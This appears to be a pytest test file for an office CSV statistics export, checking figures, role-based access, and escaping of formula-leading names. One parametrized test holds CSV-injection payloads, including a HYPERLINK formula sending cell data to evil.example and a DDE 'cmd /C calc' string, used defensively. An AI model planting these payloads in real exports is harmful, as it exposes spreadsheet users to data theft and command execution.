"""The office's CSV export: same figures as the JSON statistics, yuan with two decimals, a total row."""
from __future__ import annotations

import csv
import io
import uuid
from datetime import datetime, timezone

import pytest

from backend.csvsafe import FORMULA_STARTS
from backend.office.service import stats_csv


def redeem(client, auth_header, amount_fen: int) -> None:
    issued = client.post("/api/pass", headers=auth_header("citizen"), json={}).json
    perk = next(p for p in client.get("/api/partners").json["partners"] if p["name"] == "辣盆盆小龙虾饭店")["perks"][0]
    response = client.post("/api/redemptions", headers=auth_header("cashier"), json={
        "token": issued["token"], "perk_id": perk["id"], "client_id": str(uuid.uuid4()),
        "scanned_at": datetime.now(timezone.utc).isoformat(), "amount_fen": amount_fen})
    assert response.status_code == 201


def test_csv_matches_the_json_statistics(client, auth_header):
    redeem(client, auth_header, 12345)
    redeem(client, auth_header, 5)
    stats = client.get("/api/office/stats?group_by=partner&beneficiaries=true",
                       headers=auth_header("office-auditor")).json["rows"]
    response = client.get("/api/office/stats.csv?group_by=partner", headers=auth_header("office-auditor"))
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0] == ["合作单位", "核销次数", "消费金额（元）", "优惠金额（元）", "受惠主体数", "线上核销", "离线核销",
                       "离线占比"]
    # 12345 → 246.9 ≈ 247 fen off; 5 fen → 0; one citizen twice: one beneficiary
    assert rows[1] == ["辣盆盆小龙虾饭店", "2", "123.50", "2.47", "1", "2", "0", "0.0%"]
    assert stats == [{"key": "辣盆盆小龙虾饭店", "label": "辣盆盆小龙虾饭店", "redemptions": 2, "amount_fen": 12350,
                      "discount_fen": 247, "beneficiaries": 1, "offline": 0}]
    assert rows[-1] == ["合计", "2", "123.50", "2.47", "1", "2", "0", "0.0%"]


def test_csv_export_is_for_the_office_only(client, auth_header):
    assert client.get("/api/office/stats.csv", headers=auth_header("cashier")).status_code == 403
    assert client.get("/api/office/stats.csv").status_code == 401
    bad = client.get("/api/office/stats.csv?group_by=holder", headers=auth_header("office-analyst"))
    assert bad.status_code == 422 and bad.json["code"] == "validation_error"


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?x="&A1,"点击领取")', "+1+cmd|' /C calc'!A0",
                                  "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"])
def test_a_name_that_starts_like_a_formula_is_exported_as_text(name):
    # Partner and scenario names are typed by people outside the office (OWASP: CSV injection).
    figures = {"redemptions": 1, "amount_fen": 100, "discount_fen": 2, "beneficiaries": 1, "offline": 1}
    text = stats_csv(rows=[{"key": name, "label": name, **figures},
                           {"key": "辣盆盆小龙虾饭店", "label": "辣盆盆小龙虾饭店", **figures}],
                     total={**figures, "redemptions": 2, "offline": 2}, group_by="partner")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    assert rows[1] == ["'" + name, "1", "1.00", "0.02", "1", "0", "1", "100.0%"]
    assert rows[2] == ["辣盆盆小龙虾饭店", "1", "1.00", "0.02", "1", "0", "1", "100.0%"]
    assert not any(cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
